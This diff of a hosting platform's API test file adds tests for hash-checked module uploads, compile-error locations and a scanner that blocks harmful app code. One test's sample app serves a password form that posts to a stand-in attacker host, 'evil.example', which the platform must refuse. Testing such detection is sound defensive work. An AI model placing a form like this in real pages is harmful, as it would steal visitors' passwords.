@@ -1,5 +1,6 @@
 /** Tests of apps over HTTP: deploys, requests, versions, limits, logs, secrets and limited keys. */
 import assert from 'node:assert/strict'
+import { createHash } from 'node:crypto'
 import { createServer, request, type ServerResponse } from 'node:http'
 import { suite, test, type TestContext } from 'node:test'
 import { newApp } from '../../../test/fixtures/apps/new-app.ts'
@@ -8,6 +9,7 @@ import { eventually } from '../../../test/fixtures/eventually.ts'
 import { longTest } from '../../../test/fixtures/depth.ts'
 import { openTestRuntime } from '../../../test/fixtures/runtime.ts'
 import { newSiteOwner } from '../../../test/fixtures/sites/site-owner.ts'
+import { hostOf, visit } from '../../../test/fixtures/sites/site-visitor.ts'
 import { listen } from '../../../test/fixtures/loopback.ts'
 import { findRolesOf } from '../../../test/fixtures/apps/app-database.ts'
 
@@ -133,7 +135,7 @@ suite('POST /apps', () => {
     ['a syntax error', 'export default { fetch( { }', /main\.js|main\.ts/],
     ['a missing import', 'import x from "left-pad"\nexport default { fetch() {} }', /left-pad/],
     ['an exception at its start', 'throw new Error("no luck")', /no luck/],
-    ['a type that is no type', 'const a: = 1', /main\.ts/],
+    ['a type that is no type', '// A comment.\nconst a: = 1', /main\.ts:2: /],
   ] as const) {
     test(`refuses code with ${what}, and says where`, async () => {
       const owner = await newSiteOwner(runtime)
@@ -145,6 +147,44 @@ suite('POST /apps', () => {
       assert.deepEqual((await owner.call('GET /apps')).body.data, [])
     })
   }
+
+  test('takes modules that were uploaded, and names those that never came', async () => {
+    const owner = await newSiteOwner(runtime)
+    const site = await owner.publish({ 'index.html': 'x' })
+    const text = 'export default { fetch: () => new Response("uploaded") }'
+    const sha256 = createHash('sha256').update(text).digest('hex')
+    const input = { site_id: site.id, name: 'x', modules: [{ path: 'main.ts', sha256 }] }
+    const early = await owner.call('POST /apps', input)
+    assert.deepEqual([early.status, slugOf(early)], [422, 'upload_not_received'], early.text)
+    const announced = { path: 'main.ts', sha256, bytes: text.length }
+    const [link] = (await owner.call('POST /sites/uploads', { files: [announced] })).body.uploads
+    const sent = await fetch(link.url, { method: 'PUT', headers: link.headers, body: text })
+    assert.ok(sent.ok, await sent.text())
+    const made = await owner.call('POST /apps', input)
+    assert.equal(made.status, 201, made.text)
+    const host = hostOf(site.url)
+    assert.equal((await visit(runtime, { host, route: 'GET /api/' })).text, 'uploaded')
+    const [shown] = (await owner.call(`GET /apps/${made.body.id}`)).body.modules
+    assert.deepEqual(shown, { path: 'main.ts', text })
+    const neither = await owner.call(`PUT /apps/${made.body.id}`, {
+      modules: [{ path: 'main.ts' }],
+    })
+    assert.equal(neither.body.errors[0].path, '/modules/0', neither.text)
+  })
+
+  test('refuses code that breaks the rules of sites, with an appeal', async () => {
+    const owner = await newSiteOwner(runtime)
+    const site = await owner.publish({ 'index.html': 'x' })
+    const form = '<form action="https://evil.example/in"><input type="password" name="p"></form>'
+    const text = `// A comment.\nexport default { fetch: () => new Response('${form}') }`
+    const modules = [{ path: 'main.ts', text }]
+    const answer = await owner.call('POST /apps', { site_id: site.id, name: 'x', modules })
+    assert.deepEqual([answer.status, slugOf(answer)], [422, 'app_blocked'], answer.text)
+    const [finding] = answer.body.findings
+    const { rule, path, line } = finding
+    assert.deepEqual([rule, path, line], ['password_sent_elsewhere', 'main.ts', 2])
+    assert.match(answer.body.appeal_url, /^http/)
+  })
 
   test('refuses modules over the limit of the plan, a second app, and wrong fields', async () => {
     const { owner, app } = await deployed(hello)
